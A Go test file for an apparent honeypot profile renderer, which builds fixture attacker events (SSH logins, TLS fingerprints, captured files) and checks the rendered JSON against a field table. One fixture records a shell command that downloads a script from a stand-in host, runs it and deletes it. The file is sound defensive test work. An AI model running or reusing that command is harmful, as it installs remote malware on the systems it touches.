package profile

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"dossier/correlate/event"
	"dossier/correlate/state"
)

var (
	someone = netip.MustParseAddr("185.220.101.4")
	written = time.Date(2026, 1, 4, 12, 0, 0, 0, time.UTC)
	morning = event.FromTime(time.Date(2026, 1, 2, 8, 0, 0, 123456000, time.UTC))
)

const second = event.Time(1e6)

func headOf(addr netip.Addr) Head {
	return Head{Addr: addr, ID: addr.String(), Now: written, State: []byte("state")}
}

// everyEvent returns events that show everything a profile can hold.
func everyEvent() []*event.Event {
	var events []*event.Event
	add := func(after event.Time, decky, service, kind string, how event.Kind, evidence ...event.Evidence) *event.Event {
		ev := &event.Event{
			Time: morning + after*second, Addr: someone, Decky: decky, Service: service, Type: kind, Kind: how,
			Phase: event.Recon, Handshake: true, Evidence: evidence,
		}
		if how == event.Interaction {
			ev.Phase = event.Exfil
		}
		events = append(events, ev)
		return ev
	}
	digest := func(b byte) (d [32]byte) { d[0] = b; return d }
	add(0, "decky-02", "ssh", "connect", event.Scan,
		event.Evidence{Kind: event.Fingerprint, A: "hassh", B: "ec7378c1a92f5a8dde7e8b7a1ddf33d1"},
		event.Evidence{Kind: event.Fingerprint, A: "ssh_client_banner", B: "SSH-2.0-Go"},
		event.Evidence{Kind: event.KexOrder, A: "curve25519-sha256,ecdh-sha2-nistp256"})
	add(60, "decky-02", "ssh", "auth_attempt", event.Scan,
		event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: "toor", Digest: digest(1), Outcome: event.Failure},
		event.Evidence{Kind: event.Session, A: "6fe3"})
	add(120, "decky-02", "ssh", "auth_attempt", event.Scan,
		event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: "p\"\\ä]\u2028", Digest: digest(2), Outcome: event.Success})
	add(180, "decky-02", "ssh", "command", event.Interaction,
		event.Evidence{Kind: event.Command, A: `cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh`})
	add(240, "decky-01", "http", "request", event.Scan,
		event.Evidence{Kind: event.Fingerprint, A: "http_useragent", B: "sqlmap/1.7", Payload: []event.Field{{Key: "category", Value: "scanner"}, {Key: "no good", Value: "x"}}},
		event.Evidence{Kind: event.Leak, A: "81.2.69.142", B: "X-Forwarded-For", C: "public"},
		event.Evidence{Kind: event.Leak, A: "127.0.0.1", B: "X-Real-IP", C: "loopback"})
	add(300, "decky-03", "smtp", "rcpt_to", event.Interaction,
		event.Evidence{Kind: event.Recipient, A: "acme.com", Outcome: event.Success})
	add(360, "decky-01", "", "tcp_syn_fingerprint", event.Scan,
		event.Evidence{Kind: event.Stack, A: "linux", N: 52, M: 12, Payload: []event.Field{
			{Key: "window", Value: "29200"}, {Key: "wscale", Value: "7"}, {Key: "mss", Value: "1460"}, {Key: "options_sig", Value: "M,S,T,N,W"},
			{Key: "has_sack", Value: "true"}, {Key: "has_timestamps", Value: "false"}, {Key: "tos", Value: "0"},
			{Key: "ipid_class", Value: "zero"}, {Key: "isn_class", Value: "random"}}},
		event.Evidence{Kind: event.Retransmits, N: 3}).Role = event.Sniffer
	add(420, "decky-02", "ssh", "file_captured", event.Interaction,
		event.Evidence{Kind: event.Artifact, A: strings.Repeat("ab", 32), B: "http://198.51.100.7/x.sh", C: "file"},
		event.Evidence{Kind: event.Alert, A: "ET SCAN Potential SSH Scan", B: "Attempted Information Leak", N: 2}).Large = true
	tls := []string{"ja3", "ja3s", "ja4", "ja4s", "ja4h", "ja4_quic", "jarm"}
	for i, kind := range tls {
		add(480+event.Time(60*i), "decky-01", "https", "tls_client_hello", event.Scan,
			event.Evidence{Kind: event.Fingerprint, A: kind, B: fmt.Sprintf("%s-%d", kind, i)})
	}
	add(960, "decky-01", "https", "tls_certificate", event.Scan,
		event.Evidence{Kind: event.Fingerprint, A: "tls_certificate", B: strings.Repeat("cd", 32)})
	return events
}

// everySet returns the state after the events of everyEvent, and enough more
// to make it look like a beacon.
func everyState(t *testing.T) *state.Attacker {
	t.Helper()
	var s state.Attacker
	s.Fold(new(event.Arena), "sensor-1", false, everyEvent())
	return &s
}

func renderer(t testing.TB, o Options) *Renderer {
	t.Helper()
	r, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func decode(t testing.TB, doc []byte) map[string]any {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(doc, &m); err != nil {
		t.Fatalf("%v in\n%s", err, doc)
	}
	return m
}

// leaves returns the dotted names of a document's fields, down to those that
// the table says are objects.
func leaves(k Kind, doc map[string]any) []string {
	opaque := map[string]bool{}
	for _, f := range Fields(k) {
		opaque[f.Name] = f.Type == Object || f.Type == GeoPoint
	}
	var names []string
	var walk func(prefix string, m map[string]any)
	walk = func(prefix string, m map[string]any) {
		for name, v := range m {
			name = prefix + name
			if child, ok := v.(map[string]any); ok && !opaque[name] {
				walk(name+".", child)
				continue
			}
			names = append(names, name)
		}
	}
	walk("", doc)
	sort.Strings(names)
	return names
}

func TestEveryRenderedFieldIsInTheTable(t *testing.T) {
	s := everyState(t)
	r := renderer(t, Options{})
	doc := decode(t, r.AppendAttacker(nil, headOf(someone), s))
	var known []string
	for _, f := range Fields(Attackers) {
		known = append(known, f.Name)
	}
	for _, name := range leaves(Attackers, doc) {
		if !slices.Contains(known, name) {
			t.Errorf("%s is rendered but not in the table", name)
		}
	}
}

func TestDocumentationIsFresh(t *testing.T) {
	const path = "../docs/profile.md"
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, Markdown()) {
		t.Errorf("%s is stale: run go generate ./profile", path)
	}
}
